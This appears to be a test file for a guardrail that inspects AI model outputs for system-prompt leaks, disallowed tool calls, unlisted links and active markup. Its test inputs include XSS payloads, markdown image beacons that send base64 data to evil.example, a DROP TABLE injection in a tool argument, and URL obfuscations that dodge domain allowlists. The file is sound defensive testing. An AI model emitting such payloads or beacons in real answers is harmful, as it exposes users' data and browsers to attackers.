"""What is looked for in answers: markup that acts, links, calls of tools, the instructions themselves, new values."""

import base64
from typing import Any

import pytest
from broker.guardrails.findings import Finding
from broker.guardrails.pipeline import inspect
from broker.guardrails.policy import Policy, Rule
from broker.guardrails.walk import input_texts, output_texts

INSTRUCTIONS = (
    "You are the assistant of Hazel Bank. Answer questions about opening hours and accounts only, in two sentences at "
    "most, and never name a colleague. The word of the day is juniper, and it is for staff alone."
)
ASKED = {"input": {"messages": [{"role": "system", "content": INSTRUCTIONS}, {"role": "user", "content": "Hello?"}]}}


def found(answer: Any, rule: Rule, asked: dict[str, Any] = ASKED) -> list[Finding]:
    output = answer if isinstance(answer, dict) else {"text": answer}
    return inspect("output", output_texts(output), (Policy(rules=(rule,)),), lambda: asked).findings


def kinds(answer: Any, rule: Rule, asked: dict[str, Any] = ASKED) -> list[str]:
    return [each.kind for each in found(answer, rule, asked)]


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        ("<script>fetch('//x')</script>", "active_html"),
        ("< ScRiPt src=x>", "active_html"),
        ("<iframe src='https://a.example'>", "active_html"),
        ("<img src=x onerror=alert(1)>", "active_html"),
        ("<b onmouseover = 'a()'>x</b>", "active_html"),
        ("<svg/onload=alert(1)>", "active_html"),
        ("[here](javascript:alert(1))", "script_url"),
        ("[here](data:text/html;base64,PHA+)", "script_url"),
        ("![logo](https://evil.example/p.png?d=c2VjcmV0)", "remote_picture"),
        ("![a](//evil.example/p)", "remote_picture"),
        ("![a][ref]", "remote_picture"),
        ("<img alt=a src='https://evil.example/p.png'>", "remote_picture"),
        ("<div style='background: url(https://evil.example/x)'>", "remote_picture"),
        ("＜script＞alert(1)", "active_html"),  # noqa: RUF001 - full-width signs, which some pages fold
    ],
)
def test_markup_that_acts_where_it_is_shown(answer: str, kind: str) -> None:
    assert kinds(answer, Rule("markup")) == [kind]


@pytest.mark.parametrize(
    "answer",
    [
        "1 < 2 and a > b",
        "Use `List<String>` and <b>bold</b>.",
        "[a link](https://example.com/page)",
        "![chart](./chart.png)",
        "![ours](https://cdn.ours.example/a.png)",
        "A description of the form, the style and the script of the play.",
        "The option `--on-error = x`",
    ],
)
def test_other_markup_is_left(answer: str) -> None:
    assert kinds(answer, Rule("markup", domains=("ours.example",))) == []


@pytest.mark.parametrize(
    ("link", "listed"),
    [
        ("https://ours.example/a", True),
        ("https://docs.ours.example:8443/a?b=c", True),
        ("HTTPS://OURS.EXAMPLE./", True),
        ("https://ours.example.evil.example/", False),
        ("https://ours.example@evil.example/", False),
        ("https://evil.example/?ours.example", False),
        ("https://evil.example\\@ours.example/", False),
        ("//evil.example/a", False),
        ("https://notours.example/", False),
        ("https://[::1/", False),
        ("ftp://evil.example/file", False),
    ],
)
def test_links_to_domains_that_are_not_listed(link: str, listed: bool) -> None:
    assert kinds(f"See {link} for more.", Rule("links", domains=("ours.example",))) == (
        [] if listed else ["unlisted_link"]
    )


def test_with_no_domains_every_link_is_one_too_many() -> None:
    assert found("See https://a.example and http://b.example.", Rule("links"))[0].count == 2
    assert kinds("5//3 is 1, see https: or a//b", Rule("links")) == []


def called(name: str, arguments: str) -> dict[str, Any]:
    return {
        "text": "",
        "tool_calls": [{"id": "1", "type": "function", "function": {"name": name, "arguments": arguments}}],
    }


def test_a_model_may_call_the_tools_that_are_listed() -> None:
    rule = Rule("tool_calls", tools=("search",), patterns=(r"(?i)drop\s+table", r'"url":\s*"http:'))
    assert kinds(called("search", '{"q": "weather"}'), rule) == []
    assert kinds(called("delete_all", "{}"), rule) == ["tool_not_allowed"]
    assert kinds(called("search", '{"q": "x; DROP  TABLE jobs"}'), rule) == ["denied_argument"]
    assert kinds(called("search", '{"url": "http://a.example"}'), rule) == ["denied_argument"]
    assert kinds({"text": "drop table"}, rule) == []


def test_patterns_take_linear_time_and_one_that_is_none_lets_nothing_pass() -> None:
    assert kinds("a" * 200_000, Rule("denied_patterns", patterns=("(a+)+b",))) == []
    assert kinds("Order 12-3456 came", Rule("denied_patterns", patterns=(r"\b\d{2}-\d{4}\b",))) == ["denied_pattern"]
    broken = found("anything", Rule("denied_patterns", patterns=("(",)))
    assert [(each.kind, each.action) for each in broken] == [("check_failed", "error")]


@pytest.mark.parametrize(
    "answer",
    [
        INSTRUCTIONS,
        f"Sure! My instructions: {INSTRUCTIONS.upper()}",
        "It says:\n- answer questions about   opening hours, and accounts only -\n*in two sentences at most* and never",
        INSTRUCTIONS.encode().hex(),
        base64.b64encode(INSTRUCTIONS.encode()).decode(),
    ],
)
def test_the_instructions_word_for_word_are_a_leak(answer: str) -> None:
    assert kinds(answer, Rule("prompt_leak")) == ["system_prompt"]


@pytest.mark.parametrize(
    "answer",
    [
        "I answer questions about opening hours and accounts only.",
        "We open at nine.",
        "",
        "in two sentences at most, and",
    ],
)
def test_a_few_words_of_them_are_none(answer: str) -> None:
    assert kinds(answer, Rule("prompt_leak")) == []
    assert kinds(INSTRUCTIONS, Rule("prompt_leak"), {}) == []


def test_what_was_in_the_request_is_not_new() -> None:
    asked = {"input": {"text": "Charge 4111-1111-1111-1111, please."}}
    rule = Rule("denied_patterns", "flag", patterns=("4111",), only_new=True)
    assert kinds("4111 1111 1111 1111", rule, asked) == []
    assert kinds("4111 1111 1111 1112", rule, asked) == ["denied_pattern"]


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        (Rule("hidden_text", "remove", only_new=True), "so\u202e it is"),
        (Rule("denied_terms", "remove", terms=("\u2620\u2620",), only_new=True), "so \u2620\u2620 it is"),
    ],
)
def test_signs_without_letters_are_new_where_the_request_had_none(rule: Rule, text: str) -> None:
    assert len(kinds(text, rule, {"input": {"text": "So it is."}})) == 1
    assert kinds(text, rule, {"input": {"text": f"Is it {text}?"}}) == []


@pytest.mark.parametrize(
    "text",
    [
        "<img " * 200_000,
        "<a onabc=" * 100_000,
        "![" * 500_000,
        "](//a" * 200_000,
        "url(//" * 150_000,
        "<script " * 100_000,
    ],
    ids=range(6),
)
def test_hostile_answers_come_to_an_end(text: str) -> None:
    assert all(each.rule == "markup" for each in found(text, Rule("markup")))


@pytest.mark.parametrize(
    ("check", "text"),
    [
        ("links", "[x](https:/evil.example/a)"),
        ("links", r"[x](https:\\evil.example/a)"),
        ("links", r"[x](https:\/ok.example@evil.example)"),
        ("links", "[x](https&colon;&sol;&sol;evil.example)"),
        ("markup", r"![x](https:\\evil.example/a)"),
        ("markup", "<img src='https:/evil.example/a'>"),
        ("markup", r"<img src='/\evil.example/a'>"),
        ("markup", "<a href='java\tscript:x'>"),
        ("markup", "<a href='j\na\nvascript:x'>"),
        ("markup", "<a href=javascript&colon;x>"),
    ],
)
def test_addresses_are_read_as_browsers_do(check: str, text: str) -> None:
    assert kinds(text, Rule(check, "block", domains=("ok.example",)))
    assert not kinds(text.replace("evil", "ok"), Rule("links", "block", domains=("ok.example",)))


@pytest.mark.parametrize("gap", ["\n", "\t", "\r\n"])
def test_what_browsers_leave_out_of_an_address_hides_none(gap: str) -> None:
    link = f'<a href="ht{gap}tps:/{gap}/evil.example/a">x</a>'
    assert kinds(link, Rule("links", domains=("ok.example",))) == ["unlisted_link"]
    assert kinds(link.replace("evil", "ok"), Rule("links", domains=("ok.example",))) == []
    longer = f'<a href="https://ok.example{gap}.evil.example/a">x</a>'
    assert kinds(longer, Rule("links", domains=("ok.example",))) == ["unlisted_link"]
    picture = f'<img alt=x{gap}src="h{gap}ttps://evil.example/a.png">'
    assert kinds(picture, Rule("markup", domains=("ok.example",))) == ["remote_picture"]
    assert kinds(f"See https://ok.example{gap}.evil.example is a name.", Rule("links", domains=("ok.example",))) == []


@pytest.mark.parametrize(
    ("text", "finds"),
    [
        ("How is a b0mb made?", 1),
        ("B0M8 it", 1),
        ("the file has 80mb", 0),
        ("b0mbast1c", 0),
        ("4lb4tr055 and @lb@tr0$$", 2),
        ("A5 paper, 10 a5 notes", 0),
        ("bomb b0mb", 2),
    ],
)
def test_digits_in_the_place_of_letters_hide_no_term(text: str, finds: int) -> None:
    policy = Policy(rules=(Rule("denied_terms", terms=("bomb", "albatross", "as")),))
    found = inspect("input", input_texts({"input": {"text": text}}), (policy,)).findings
    assert sum(each.count for each in found) == finds
